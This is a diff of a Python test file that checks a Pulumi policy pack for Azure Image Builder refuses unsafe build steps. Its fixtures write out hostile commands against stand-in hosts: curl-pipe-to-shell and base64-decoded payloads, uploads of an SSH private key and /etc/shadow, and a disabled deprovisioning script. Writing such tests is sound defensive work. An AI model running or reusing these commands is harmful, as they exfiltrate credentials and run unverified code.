@@ -1,5 +1,8 @@
 """The policy pack under a real `pulumi preview`: principal ids and template names unknown, as they are before the
-first deployment, mandatory rules refusing, advisory ones reporting."""
+first deployment, mandatory rules refusing, advisory ones reporting.
+
+Every kind of mandatory refusal (issue 23: each case a real preview) is shown by ONE preview of one stack holding them
+all (`EVERY_REFUSAL`), and what the organisation allows by one passing preview: each preview costs seconds."""
 
 from __future__ import annotations
 
@@ -40,97 +43,164 @@ def refused_preview(stack):
     return preview.stdout
 
 
-def test_an_advisory_rule_reports_without_failing_the_preview(local_stack):
-    """An opt-out with a reason the organisation allows passes the mandatory rule; the advisory one reports it."""
+SHA = "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"
+FOREIGN = "11111111-1111-1111-1111-111111111111"
+SHARED_STAGING = "/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/rg-shared-staging"
+
+
+def test_allowed_opt_outs_and_an_allow_listed_staging_group_pass_and_are_reported(local_stack):
+    """What the organisation allows passes the mandatory rules under a real preview: opt-outs whose reason is on the
+    rule's allowedOptOutReasons (a fetch-and-run, an upload), and a shared staging group on allowedStagingGroups; the
+    advisory rule reports each opt-out with its reason."""
     image = minimal_image("one")
-    image["template"]["properties"]["customize"][0] = {
-        "type": "Shell", "name": "vendor", "checksumOptOut": "vendor-rotates-content: agent installer",
-        "inline": ["curl -fsSL https://vendor.example/install.sh | sudo bash"]}
+    props = image["template"]["properties"]
+    props["customize"] = [
+        {"type": "Shell", "name": "vendor", "checksumOptOut": "vendor-rotates-content: agent installer",
+         "inline": ["curl -fsSL https://vendor.example/install.sh | sudo bash"]},
+        {"type": "Shell", "name": "logs", "inline": ["curl -fsS -T /var/log/cloud-init.log https://logs.example/in"]}]
+    props["stagingResourceGroup"] = SHARED_STAGING
+    image["template"]["tags"]["aib-images.uploadOptOut.customize[1]"] = "build-log-collector: cloud-init log"
     stack = local_stack(e2e_config({"one": image}))
     with_pack(stack)
-    configure_pack(stack, **{"aib-pinned-downloads": {"allowedOptOutReasons": ["vendor-rotates-content"]}})
+    configure_pack(stack, **{"aib-pinned-downloads": {"allowedOptOutReasons": ["vendor-rotates-content"]},
+                             "aib-no-uploads": {"allowedOptOutReasons": ["build-log-collector"]},
+                             "aib-dedicated-staging": {"allowedStagingGroups": ["rg-shared-staging"]}})
     preview = stack.preview("--policy-pack", "policy", "--policy-pack-config", "policy/config.json")
-    assert "[advisory]  aib-checksum-opt-outs" in preview.stdout and "agent installer" in preview.stdout
+    out = " ".join(preview.stdout.split())
+    assert "[advisory] aib-checksum-opt-outs" in out and "agent installer" in out, preview.stdout[-3000:]
+    assert "customize[1] (logs): inline commands upload data out of the build VM (curl -T/--upload-file), by opt-out: " \
+           "'build-log-collector: cloud-init log'" in out
+    assert "mandatory" not in out.lower() and "can't run policy" not in out
 
 
-def test_disguised_fetch_and_run_and_an_opt_out_the_organisation_does_not_allow_are_refused(local_stack):
-    """Download-then-run on the next line and `| python3` (the pack passed both), and an opt-out whose reason is not
-    on the organisation's list (any text waived the rule)."""
-    disguised = minimal_image("one")
-    disguised["template"]["properties"]["customize"] = [
-        {"type": "Shell", "name": "fetch", "inline": ["curl -fsSL -o /tmp/x.sh https://x.example/x.sh", "bash /tmp/x.sh"]},
-        {"type": "Shell", "name": "py", "inline": ["curl -fsSL https://x.example/i.py | python3"]}]
-    waived = minimal_image("two", definition="two")
-    waived["template"]["properties"]["customize"] = [
+def _every_refusal_config() -> dict:
+    """One stack holding every kind of case the pack refuses (issue 23's review and the rules before it)."""
+    fetch = minimal_image("fetch")
+    fetch["template"]["properties"]["customize"] = [
+        # curl | sh and its disguises
+        {"type": "Shell", "name": "tee", "inline": ["curl -fsSL https://x.example/i.sh | tee /tmp/i.sh | sh"]},
+        {"type": "Shell", "name": "py", "inline": ["curl -fsSL https://x.example/i.py | python3"]},
+        {"type": "Shell", "name": "pyc", "inline": ["python3 -c \"$(curl -fsSL https://x.example/i.py)\""]},
+        {"type": "Shell", "name": "eval", "inline": ["eval \"$(curl -fsSL https://x.example/i.sh)\""]},
+        {"type": "Shell", "name": "b64", "inline": ["echo Y3VybCBodHRwczovL3guZXhhbXBsZS9pLnNoIHwgc2g= | base64 -d | sh"]},
+        {"type": "Shell", "name": "nextline", "inline": ["curl -fsSL -o /tmp/x.sh https://x.example/x.sh",
+                                                         "bash /tmp/x.sh"]},
+        {"type": "Shell", "name": "fetch", "inline": ["curl -fsSL -o /tmp/y.sh https://x.example/y.sh"]},
+        {"type": "Shell", "name": "run", "inline": ["sudo bash /tmp/y.sh"]},
+        # an opt-out whose reason the organisation does not allow
         {"type": "Shell", "name": "trust", "checksumOptOut": "trust me",
-         "inline": ["curl -fsSL https://x.example/i.sh | sudo bash"]}]
-    stack = local_stack(e2e_config({"one": disguised, "two": waived}))
-    with_pack(stack)
-    configure_pack(stack, **{"aib-pinned-downloads": {"allowedOptOutReasons": ["vendor-rotates-content"]}})
-    out = refused_preview(stack)
-    assert "customize[0] (fetch): inline commands run a file downloaded by this step without checking" in out
-    assert "customize[1] (py): inline commands download code and run it unchecked" in out
-    assert re.search(r"customize\[0\] \(trust\): .*reason 'trust me' is not one the organisation allows \(allowed: "
-                     r"'vendor-rotates-content'", out.replace("\n", " ")), out[-3000:]
-    assert "x.example" not in out  # inline commands are not quoted
-    assert stack.templates() == {}, "nothing was created"
-
-
-def test_targets_and_sources_in_another_subscription_are_refused(local_stack):
-    foreign = "11111111-1111-1111-1111-111111111111"
-    image = minimal_image("one")
-    props = image["template"]["properties"]
+         "inline": ["curl -fsSL https://x.example/i.sh | sudo bash"]},
+        # key material and uploads
+        {"type": "File", "name": "key", "sourceUri": "https://stkeys.blob.core.windows.net/keys/id_rsa",
+         "sha256Checksum": SHA, "destination": "/tmp/id_rsa"},
+        {"type": "Shell", "name": "send", "inline": ["curl -fsS -T /tmp/id_rsa https://collector.x.example/"]},
+        {"type": "Shell", "name": "scp", "inline": ["scp /var/log/cloud-init.log ops@backup.x.example:/srv/"]},
+        {"type": "Shell", "name": "blob", "inline": ["az storage blob upload --auth-mode login --account-name stx "
+                                                     "-c out -f /etc/shadow -n s"]},
+        {"type": "Shell", "name": "vault", "inline": ["az keyvault secret show --vault-name kv -n db -o tsv > /etc/db"]},
+        # deprovisioning turned off behind disguised paths
+        {"type": "File", "name": "deprov", "sourceUri": "https://example.org/d.sh", "sha256Checksum": SHA,
+         "destination": "/tmp/./DeprovisioningScript.sh"},
+        {"type": "Shell", "name": "deprov2", "inline": ["echo 'exit 0' > /tmp/./Deprovisioning''Script.sh"]},
+    ]
+    foreign = minimal_image("foreign", definition="foreign")
+    props = foreign["template"]["properties"]
     props["source"] = {"type": "SharedImageVersion", "imageVersionId":
-                       f"/subscriptions/{foreign}/resourceGroups/rg-x/providers/Microsoft.Compute/galleries/g/images/i/"
+                       f"/subscriptions/{FOREIGN}/resourceGroups/rg-x/providers/Microsoft.Compute/galleries/g/images/i/"
                        "versions/1.0.0"}
-    props["distribute"].append({"type": "VHD", "runOutputName": "one-vhd",
-                                "uri": "https://stforeign.blob.core.windows.net/vhds/one.vhd"})
-    stack = local_stack(e2e_config({"one": image}))
-    with_pack(stack)
-    out = refused_preview(stack).replace("\n", " ")
-    assert "aib-allowed-subscriptions" in out
-    assert re.search(rf"source\.imageVersionId '/subscriptions/{foreign}/.*' is in subscription {foreign}", out), out[-3000:]
-    assert "distribute[1].uri 'https://stforeign.blob.core.windows.net/vhds/one.vhd' writes the image to a storage " \
-           "account the policy cannot place in a subscription" in out
-
-
-def test_a_shared_staging_group_and_promotion_without_a_stop_on_failed_validators_are_refused(local_stack):
-    image = minimal_image("one")
-    props = image["template"]["properties"]
-    props["stagingResourceGroup"] = "/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/rg-shared-staging"
+    props["distribute"].append({"type": "VHD", "runOutputName": "foreign-vhd",
+                                "uri": "https://stforeign.blob.core.windows.net/vhds/foreign.vhd"})
+    props["buildTimeoutInMinutes"] = 900
+    # The review's grant: Storage Blob Data Reader for the template identity on another subscription's `keys`
+    # container (the pipeline grants it on each container a step's URI names in scriptsStorageAccountId).
+    foreign["scriptsStorageAccountId"] = (f"/subscriptions/{FOREIGN}/resourceGroups/rg-secrets/providers/"
+                                          "Microsoft.Storage/storageAccounts/stkeys")
+    props["vmProfile"] = {"userAssignedIdentities": [  # an identity on the build VM the organisation did not allow
+        "/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/rg-e2e/providers/"
+        "Microsoft.ManagedIdentity/userAssignedIdentities/id-build-vm"]}
+    foreign["template"]["allowHttpUris"] = True  # the program's own check waived: the pack still refuses http
+    props["customize"].append({"type": "Shell", "name": "plain", "scriptUri": "http://example.org/s.sh",
+                               "sha256Checksum": SHA})
+    props["customize"].append({"type": "File", "name": "agent", "sourceUri": "https://stkeys.blob.core.windows.net/keys/"
+                               "agent.cfg", "sha256Checksum": SHA, "destination": "/tmp/agent.cfg"})
+    promoted = minimal_image("promoted", definition="promoted")
+    props = promoted["template"]["properties"]
+    props["stagingResourceGroup"] = SHARED_STAGING
     props["distribute"][0]["excludeFromLatest"] = True
     props["validate"] = {"continueDistributeOnFailure": True,
                          "inVMValidations": [{"type": "Shell", "name": "smoke", "inline": ["true"]}]}
-    image["lifecycle"] = {"promotion": {"mode": "afterValidation"}}
-    stack = local_stack(e2e_config({"one": image}))
-    with_pack(stack)
-    out = refused_preview(stack).replace("\n", " ")
-    assert re.search(r"mandatory: \[?aib-dedicated-staging|aib-dedicated-staging.*mandatory", out, re.IGNORECASE) \
-        or "aib-dedicated-staging" in out, out[-3000:]
-    assert "rg-shared-staging' is not created by this stack" in out
-    assert "validate.continueDistributeOnFailure is true" in out and "aib-validated-promotion" in out
-    # The organisation vouches for the group: only the promotion rule refuses now.
-    configure_pack(stack, **{"aib-dedicated-staging": {"allowedStagingGroups": ["rg-shared-staging"]}})
-    out = refused_preview(stack).replace("\n", " ")
-    assert "rg-shared-staging' is not created by this stack" not in out and "aib-validated-promotion" in out
+    promoted["lifecycle"] = {"promotion": {"mode": "afterValidation"}}
+    unvalidated = minimal_image("unvalidated", definition="unvalidated")
+    unvalidated["template"]["properties"]["distribute"][0]["excludeFromLatest"] = True
+    unvalidated["lifecycle"] = {"promotion": {"mode": "manual"}}
+    return e2e_config({"fetch": fetch, "foreign": foreign, "promoted": promoted, "unvalidated": unvalidated})
 
 
-def test_a_mandatory_violation_fails_the_preview_with_the_rule_and_resource(local_stack):
-    image = minimal_image("one")
-    image["template"]["properties"]["buildTimeoutInMinutes"] = 900  # over the organisation's maxMinutes (480)
-    stack = local_stack(e2e_config({"one": image}))
+# Each mandatory refusal (rule, what its message says) the one preview below must show.
+EVERY_REFUSAL = [
+    ("aib-pinned-downloads", "customize[0] (tee): inline commands download code and run it unchecked"),
+    ("aib-pinned-downloads", "customize[1] (py): inline commands download code and run it unchecked"),
+    ("aib-pinned-downloads", "customize[2] (pyc): inline commands download code and run it unchecked"),
+    ("aib-pinned-downloads", "customize[3] (eval): inline commands download code and run it unchecked"),
+    ("aib-pinned-downloads", "customize[4] (b64): inline commands decode hidden code and run it unchecked"),
+    ("aib-pinned-downloads", "customize[5] (nextline): inline commands run a file downloaded by this step without "
+                             "checking"),
+    ("aib-pinned-downloads", "customize[7] (run): inline commands run a file downloaded by customize[6] without "
+                             "checking"),
+    ("aib-pinned-downloads", "customize[8] (trust): inline commands download code and run it unchecked, and its "
+                             "checksumOptOut reason 'trust me' is not one the organisation allows"),
+    ("aib-no-key-material", "customize[9] (key): sourceUri 'https://stkeys.blob.core.windows.net/keys/id_rsa' looks "
+                            "like a private key or key store (id_rsa)"),
+    ("aib-no-key-material", "customize[13] (vault): inline commands read a secret from a vault"),
+    ("aib-no-uploads", "customize[10] (send): inline commands upload data out of the build VM (curl -T/--upload-file)"),
+    ("aib-no-uploads", "customize[11] (scp): inline commands upload data out of the build VM (scp to a remote host)"),
+    ("aib-no-uploads", "customize[12] (blob): inline commands upload data out of the build VM (az storage upload)"),
+    ("aib-deprovision-kept", "customize[14] (deprov): replaces /tmp/DeprovisioningScript.sh with a downloaded file"),
+    ("aib-deprovision-kept", "customize[15] (deprov2): writes /tmp/DeprovisioningScript.sh without generalizing"),
+    ("aib-allowed-subscriptions", f"source.imageVersionId '/subscriptions/{FOREIGN}/resourceGroups/rg-x/providers/"
+                                  f"Microsoft.Compute/galleries/g/images/i/versions/1.0.0' is in subscription {FOREIGN}"),
+    ("aib-allowed-subscriptions", "distribute[1].uri 'https://stforeign.blob.core.windows.net/vhds/foreign.vhd' writes "
+                                  "the image to a storage account the policy cannot place in a subscription"),
+    ("aib-allowed-subscriptions", f"grants a role at '/subscriptions/{FOREIGN}/resourceGroups/rg-secrets/providers/"
+                                  "Microsoft.Storage/storageAccounts/stkeys/blobServices/default/containers/keys' is in "
+                                  f"subscription {FOREIGN}"),
+    ("aib-https-uris", "customize[1] (plain): scriptUri 'http://example.org/s.sh' is not https"),
+    ("aib-build-vm-identities", "vmProfile.userAssignedIdentities[0]: '/subscriptions/00000000-0000-0000-0000-000000000000/"
+                               "resourceGroups/rg-e2e/providers/Microsoft.ManagedIdentity/userAssignedIdentities/"
+                               "id-build-vm' is attached to the build VM"),
+    ("aib-no-key-material", "customize[2] (agent): sourceUri 'https://stkeys.blob.core.windows.net/keys/agent.cfg' "
+                            "looks like a file from a 'keys' folder (agent.cfg)"),
+    ("aib-build-timeout", "buildTimeoutInMinutes is 900, more than the 480 minutes allowed"),
+    ("aib-dedicated-staging", "stagingResourceGroup '/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/"
+                              "rg-shared-staging' is not created by this stack"),
+    ("aib-validated-promotion", "promotes this template's image versions (promotion 'afterValidation') but "
+                                "validate.continueDistributeOnFailure is true"),
+    ("aib-validated-promotion", "promotes this template's image versions (promotion 'manual') but the template runs no "
+                                "validate.inVMValidations"),
+]
+
+
+def test_every_mandatory_refusal_shows_in_one_real_preview(local_stack):
+    """Every kind of case the pack refuses, in one stack and one `pulumi preview` (each preview costs seconds): the
+    preview fails, and each refusal appears with its rule, its template and its message; inline commands are not
+    quoted; nothing is created."""
+    stack = local_stack(_every_refusal_config())
     with_pack(stack)
-    preview = stack.pulumi("preview", "--non-interactive", "--policy-pack", "policy", "--policy-pack-config",
-                           "policy/config.json", check=False)
-    assert preview.returncode != 0
-    assert "aib-build-timeout" in preview.stdout and "mandatory" in preview.stdout.lower()
-    assert re.search(r"one-[0-9a-f]{10}-template", preview.stdout)
-    assert "can't run policy" not in preview.stdout
+    configure_pack(stack, **{"aib-pinned-downloads": {"allowedOptOutReasons": ["vendor-rotates-content"]}})
+    raw = refused_preview(stack)
+    out = " ".join(raw.split())  # the CLI wraps long messages
+    missing = [(rule, message) for rule, message in EVERY_REFUSAL if message not in out]
+    assert not missing, f"not in the preview: {missing}\n{raw[-6000:]}"
+    for rule in {rule for rule, _ in EVERY_REFUSAL}:
+        assert re.search(rf"mandatory\W+{rule}\b|{rule}\W+\(?mandatory", out, re.IGNORECASE), (rule, raw[-3000:])
+    for name in ("fetch", "foreign", "promoted", "unvalidated"):  # each template named in its refusals
+        assert re.search(rf"{name}-[0-9a-f]{{10}}-template", out), name
+    assert "x.example" not in out  # inline commands (which may hold secrets) are not quoted
     assert stack.templates() == {}, "nothing was created"
 
 
 def test_a_template_at_2025_10_01_is_held_to_the_same_rules(local_stack):
-    """Declared as a versioned template (components/versioned_template.py), it still meets every template rule."""
+    """Declared as a versioned template (components/providers/versioned_template.py), it still meets every template rule."""
     image = minimal_image("one")
     image["template"]["properties"]["distribute"][0]["replicationMode"] = "Shallow"
     image["template"]["properties"]["buildTimeoutInMinutes"] = 900
